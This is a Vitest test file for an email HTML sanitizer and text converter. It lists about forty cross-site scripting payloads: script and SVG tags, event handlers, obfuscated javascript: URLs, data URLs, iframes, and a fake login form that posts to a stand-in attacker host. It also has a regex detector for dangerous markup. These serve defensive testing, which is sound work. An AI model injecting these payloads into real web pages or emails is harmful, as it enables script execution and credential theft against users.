import { describe, expect, it } from 'vitest';
import { decodeEntities, htmlToText, sanitizeMailHtml } from '../../../shared/adapters/mail/sanitize';

/** Payloads that must come out harmless: no script, handler, dangerous URL, CSS or active element. */
const XSS: [string, string][] = [
  ['script tag', '<p>hi</p><script>alert(1)</script>'],
  ['script upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, cid source', '<img src="cid:a" onerror="alert(1)">'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['JaVaScRiPt: mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['javascript: with entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript: with hex entities and no semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['javascript: with tab and newline', '<a href="jav\tasc\nript:alert(1)">x</a>'],
  ['javascript: with leading space', '<a href=" javascript:alert(1)">x</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data:text/html image', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
  ['svg image data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg onload', '<svg onload=alert(1)><circle r=1 /></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['math', '<math><mtext><script>alert(1)</script></mtext></math>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style url', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['style element', '<style>@import "javascript:alert(1)"; body{background:red}</style><p>x</p>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="evil.swf"></object>'],
  ['embed', '<embed src="evil.swf">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//"><a href="x">x</a>'],
  ['form action', '<form action="https://evil.example/steal"><input name="password"><button>Login</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['body onload', '<body onload="alert(1)">x</body>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['event handler on an allowed tag', '<table onmouseover="alert(1)"><tr><td onclick="alert(1)">x</td></tr></table>'],
  ['unquoted handler after slash', '<img/src="cid:x"/onerror=alert(1)>'],
  ['broken markup', '<<script>alert(1);//<</script>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['protocol-relative remote image', '<img src="//evil.example/pixel.gif">'],
  ['remote tracking pixel', '<img src="https://tracker.example/open?id=1" width="1" height="1">'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['id clobbering', '<a id="defaultView" name="x" href="https://ok.example">x</a>'],
  ['srcset', '<img src="cid:a" srcset="https://evil.example/x.png 1x">'],
  ['xlink href', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['textarea breakout', '<textarea></textarea><script>alert(1)</script></textarea>'],
];

function harmless(out: string): string[] {
  const problems: string[] = [];
  if (/<\s*(script|style|iframe|object|embed|svg|math|form|input|button|meta|base|link|textarea|template|noscript)\b/i.test(out)) problems.push('active element');
  if (/\son[a-z]+\s*=/i.test(out)) problems.push('event handler');
  if (/(javascript|vbscript)\s*:/i.test(out)) problems.push('script URL');
  if (/data:(?!image\/(png|jpeg|gif|webp);)/i.test(out)) problems.push('data URL');
  if (/\sstyle\s*=/i.test(out)) problems.push('style attribute');
  if (/\s(id|name|srcset|formaction)\s*=/i.test(out)) problems.push('dangerous attribute');
  if (/<img[^>]+src="(?!cid:|data:image)/i.test(out)) problems.push('remote image');
  return problems;
}

describe('sanitizeMailHtml: XSS payloads come out harmless', () => {
  it.each(XSS)('%s', (_, payload) => {
    const out = sanitizeMailHtml(payload);
    expect(harmless(out), out).toEqual([]);
  });

  it('the harmlessness check itself catches each problem', () => {
    expect(harmless('<script>')).toContain('active element');
    expect(harmless('<p onclick=x>')).toContain('event handler');
    expect(harmless('<a href="javascript:x">')).toContain('script URL');
    expect(harmless('<img src="https://t.example/p.gif">')).toContain('remote image');
  });
});

describe('sanitizeMailHtml keeps what agents need', () => {
  it.each([
    ['formatting', '<p>Hello <b>bold</b> <i>it</i> <u>u</u><br>line</p>', '<p>Hello <b>bold</b> <i>it</i> <u>u</u><br />line</p>'],
    ['lists', '<ol start="3"><li>a</li></ol><ul><li>b</li></ul>', '<ol start="3"><li>a</li></ol><ul><li>b</li></ul>'],
    ['tables', '<table border="1"><tr><td colspan="2">x</td></tr></table>', '<table border="1"><tr><td colspan="2">x</td></tr></table>'],
    ['RTL direction', '<div dir="rtl" lang="fa">سلام</div>', '<div dir="rtl" lang="fa">سلام</div>'],
    ['https link gets rel and target', '<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a>', '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['mailto link', '<a href="mailto:support@example.com">mail</a>', '<a href="mailto:support@example.com" rel="noopener noreferrer nofollow" target="_blank">mail</a>'],
    ['cid image', '<img src="cid:logo@x" alt="logo">', '<img alt="logo" src="cid:logo@x" />'],
    ['png data image', '<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=" />'],
    ['style attribute dropped, text kept', '<p style="color:red">red</p>', '<p>red</p>'],
    ['script content dropped', '<p>a</p><script>var x = 1;</script>', '<p>a</p>'],
    ['unknown tags unwrapped', '<custom-tag>inside</custom-tag>', 'inside'],
  ])('%s', (_, input, out) => {
    expect(sanitizeMailHtml(input)).toBe(out);
  });

  it('drops remote and protocol-relative images entirely', () => {
    expect(sanitizeMailHtml('<p>x<img src="https://t.example/p.gif"></p>')).toBe('<p>x</p>');
    expect(sanitizeMailHtml('<p>x<img src="//t.example/p.gif"></p>')).toBe('<p>x</p>');
  });

  it('a link with a forbidden scheme loses its href but keeps its text', () => {
    expect(sanitizeMailHtml('<a href="ftp://x.example/f">file</a>')).toBe('<a rel="noopener noreferrer nofollow" target="_blank">file</a>');
  });
});

describe('htmlToText', () => {
  it.each([
    ['paragraphs and breaks', '<p>one</p><p>two<br>three</p>', 'one\n\ntwo\nthree'],
    ['entities', '<p>a &amp; b &lt;c&gt; &quot;d&quot; &#1587;&#x644;am&nbsp;x &unknown;</p>', 'a & b <c> "d" سلam\u00a0x &unknown;'],
    ['links keep their URL', '<a href="https://example.com/x">the site</a>', 'the site (https://example.com/x)'],
    ['a link showing its URL is not doubled', '<a href="https://example.com">https://example.com</a>', 'https://example.com'],
    ['mailto shown as the address', '<a href="mailto:a@example.com">write us</a>', 'write us (a@example.com)'],
    ['javascript links keep only their text', '<a href="javascript:alert(1)">click</a>', 'click'],
    ['lists', '<ul><li>one</li><li>two</li></ul>', '- one\n- two'],
    ['tables', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>', 'a\tb\nc\td'],
    ['head, style and script dropped', '<html><head><title>T</title><style>p{}</style></head><body><script>x()</script><p>body</p></body></html>', 'body'],
    ['whitespace collapsed', '<p>  many    spaces\n\n here </p>', 'many spaces here'],
    ['pre keeps whitespace', '<pre>a  b\n  c</pre>', 'a  b\n  c'],
    ['image alt text', '<p>logo: <img src="cid:x" alt="ACME"></p>', 'logo: ACME'],
    ['headings', '<h1>Title</h1>text', 'Title\n\ntext'],
    ['hr', 'a<hr>b', 'a\n---\nb'],
    ['comments dropped', 'a<!-- hidden -->b', 'ab'],
    ['Persian with ZWNJ entity', '<p dir="rtl">می&zwnj;خواهم</p>', 'می\u200cخواهم'],
    ['stray less-than', 'a < b', 'a < b'],
    ['empty', '', ''],
  ])('%s', (_, html, text) => {
    expect(htmlToText(html)).toBe(text);
  });
});

describe('decodeEntities', () => {
  it.each([
    ['&amp;&lt;&gt;', '&<>'],
    ['&#65;&#x42;&#X43;', 'ABC'],
    ['&#0;&#xD800;&#x110000;', '\ufffd\ufffd\ufffd'],
    ['&AMP;', '&'],
    ['&nosuch;', '&nosuch;'],
    ['&amp', '&'],
  ])('%j -> %j', (input, out) => {
    expect(decodeEntities(input)).toBe(out);
  });
});
